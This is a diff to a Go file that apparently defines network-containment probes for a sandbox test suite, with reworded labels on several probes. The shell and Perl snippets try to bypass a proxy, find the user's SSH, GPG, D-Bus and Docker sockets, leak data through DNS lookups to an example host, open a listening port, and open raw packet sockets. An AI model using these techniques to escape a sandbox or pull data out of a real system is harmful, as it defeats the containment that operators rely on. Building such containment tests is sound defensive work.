@@ -20,7 +20,7 @@ direct() { curl -s -m 2 --noproxy '*' "$@" >/dev/null 2>&1; }
 func network() []attack.Attack {
 	return []attack.Attack{
 		selfTest("N01"),
-		attack.Reaching("N02", "reach an address under another name, by itself and through the proxy", forms+`
+		attack.Reaching("N02", "reach an address under another name, directly and through the proxy", forms+`
 for f in $FORMS; do
 	direct "http://$f:$PORT/$ID"
 	curl -s -m 3 --noproxy '' -x "${HTTP_PROXY:-http://127.0.0.1:1}" "http://$f:$PORT/$ID" >/dev/null 2>&1
@@ -45,7 +45,7 @@ for h in $ADDRS; do
 done
 true`),
 		privateByName(),
-		attack.Reaching("N07", "go around the proxy, or through it to where it must not go", forms+`
+		attack.Reaching("N07", "bypass the proxy, or reach denied hosts through it", forms+`
 P="${HTTP_PROXY:-http://127.0.0.1:1}"
 for a in $ADDRS; do
 	direct "http://$a:$PORT/$ID-direct"
@@ -69,31 +69,31 @@ for p in $(awk '$4 == "0A" {print $2}' /proc/net/tcp 2>/dev/null | cut -d: -f2 |
 	done # addresses
 done # ports
 wait`),
-		attack.Scripted("N08", attack.Network, "use the user's agents and displays", `
+		attack.Scripted("N08", attack.Network, "use the user's agents, displays and buses", `
 for v in SSH_AUTH_SOCK SSH_AGENT_PID GPG_AGENT_INFO DISPLAY WAYLAND_DISPLAY DBUS_SESSION_BUS_ADDRESS XDG_RUNTIME_DIR DOCKER_HOST KUBECONFIG; do
 	eval "[ -z \"\${$v:-}\" ]" || echo "GOT $v"
 done
 awk 'NR > 1 && $8 ~ /^@/ {print "GOT abstract socket", $8}' /proc/net/unix
 for f in /tmp/.X11-unix /tmp/ssh-* /run/user /run/dbus; do [ ! -e $f ] || echo "GOT $f"; done
 true`).NaiveFlags("-e", "SSH_AUTH_SOCK=/run/agent.sock"),
-		// What no list names.
-		attack.Scripted("N11", attack.Network, "carry data out in names it asks for", `
+		// From no published list.
+		attack.Scripted("N11", attack.Network, "send data out in looked-up names", `
 getent hosts "$(hostname)-data.example.com" && echo GOT an answer
 perl -MIO::Socket::INET -e 'for (@ARGV) { my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $_, PeerPort => 53); $s and $s->send("x" x 40) and print "GOT a question to $_ out\n" }' $ADDRS 192.0.2.53 2>/dev/null
 true`),
-		attack.Scripted("N12", attack.Network, "listen where others can come", `
+		attack.Scripted("N12", attack.Network, "accept connections from outside", `
 perl -MIO::Socket::INET -e '
 	open(my $f, "<", "/proc/net/route"); my @r = grep { !/^Iface/ } <$f>;
 	my $s = IO::Socket::INET->new(Listen => 1, LocalAddr => "0.0.0.0") and @r and print "GOT a port others can reach\n"'`),
-		attack.Scripted("N13", attack.Network, "see the traffic of others", `
+		attack.Scripted("N13", attack.Network, "see foreign traffic", `
 perl -MSocket -e 'socket(my $s, 17, 3, 0x0300) and print "GOT a packet socket\n"; socket(my $r, 2, 3, 1) and print "GOT a raw socket\n"'`),
 	}
 }
 
-// privateByName is a task that opens names which lead to the host itself, and uses them where they are open: only the user's own
-// configuration may allow that.
+// privateByName is a task that allows names which resolve to the host itself, and uses them: only the user's own
+// configuration may permit that.
 func privateByName() attack.Attack {
-	a := attack.Reaching("N05", "be allowed a name, and have it lead to a private address", forms+`
+	a := attack.Reaching("N05", "use an allowed name that resolves to a private address", forms+`
 for h in localhost $ADDRS; do direct "http://$h:$PORT/$ID"; done; true`)
 	a.Task = func(task map[string]any) {
 		task["setup_commands"] = []string{`for h in localhost 127.0.0.1; do
